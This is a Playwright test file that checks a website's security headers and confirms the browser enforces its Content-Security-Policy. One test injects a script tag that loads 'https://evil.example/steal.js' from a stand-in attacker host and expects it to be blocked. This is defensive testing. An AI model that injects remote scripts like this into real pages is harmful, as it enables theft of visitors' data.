import { expect, test, type APIResponse } from './support/test'

import { commonHeaderProblems, cspProblems, PUBLIC_PAGES } from '../reliability/security-headers'

// The security headers of ../shared/DESIGN.md on every public page (and the ones that apply on the
// admin and the API), and the Content-Security-Policy enforced in Chromium without breaking a page.

function expectCommonHeaders(response: APIResponse, what: string) {
  expect(commonHeaderProblems(response.headers()), what).toEqual([])
}

test('every public page sends the policy of DESIGN.md and the other security headers', async ({ request }) => {
  for (const path of PUBLIC_PAGES) {
    const response = await request.get(path)
    expect(response.status(), path).toBeLessThan(500)
    expectCommonHeaders(response, path)
    expect(cspProblems(response.headers()['content-security-policy']), path).toEqual([])
    // Issue 29: Critical-CH would make a first visit request the page twice (next.config.mjs).
    expect(response.headers()['critical-ch'], path).toBeUndefined()
    expect(response.headers()['accept-ch'], path).toBeUndefined()
  }
})

test('the API and the admin send the same headers (the admin keeps its own scripts)', async ({ request }) => {
  for (const path of ['/api/health', '/api/suppliers?limit=1', '/api/no-such-endpoint', '/admin/login']) {
    const response = await request.get(path)
    expectCommonHeaders(response, path)
  }
  // The admin reads the colour-scheme hint for its theme, so it alone asks for it.
  expect((await request.get('/admin/login')).headers()['critical-ch']).toBe('Sec-CH-Prefers-Color-Scheme')
  const enquiry = await request.post('/api/enquiries', { data: {} })
  expect(enquiry.status()).toBe(422)
  expectCommonHeaders(enquiry, 'POST /api/enquiries')
})

test('Chromium enforces the policy: the site runs without a violation, and a script from elsewhere is refused', async ({
  page,
}) => {
  const violations: string[] = []
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      void (window as unknown as { reportViolation: (t: string) => Promise<void> }).reportViolation(
        `${e.violatedDirective} ${e.blockedURI}`,
      )
    })
  })
  for (const path of ['/', '/london', '/category/timber', '/suppliers', '/contact', '/blog', '/about']) {
    await page.goto(path)
    await page.waitForLoadState('networkidle')
    await page.mouse.wheel(0, 4000)
    // Lazy images load now rather than when scrolled to, and the check waits until each one has loaded or failed.
    await page.evaluate(() => document.querySelectorAll('img').forEach((img) => (img.loading = 'eager')))
    await expect.poll(() => page.evaluate(() => [...document.images].every((img) => img.complete))).toBe(true)
    await page.waitForLoadState('networkidle')
  }
  expect(violations, 'the site itself must not trip its own policy').toEqual([])

  await page.goto('/contact')
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/steal.js'
        script.onload = () => resolve('loaded')
        script.onerror = () => resolve('blocked')
        document.head.appendChild(script)
      }),
  )
  expect(outcome).toBe('blocked')
  await expect.poll(() => violations.some((v) => v.startsWith('script-src') && v.includes('evil.example'))).toBe(true)
  // An inline script (allowed, see DESIGN.md) that tries eval from a timer, i.e. outside Playwright's
  // own evaluation (which DevTools exempts from the policy): the policy refuses it.
  await page.addScriptTag({
    content:
      'setTimeout(() => { try { document.body.dataset.evalResult = String(new ' +
      'Function("return 41 + 1")()) } catch (e) { document.body.dataset.evalResult = ' +
      '"refused" } }, 0)',
  })
  await expect(page.locator('body')).toHaveAttribute('data-eval-result', 'refused')
})
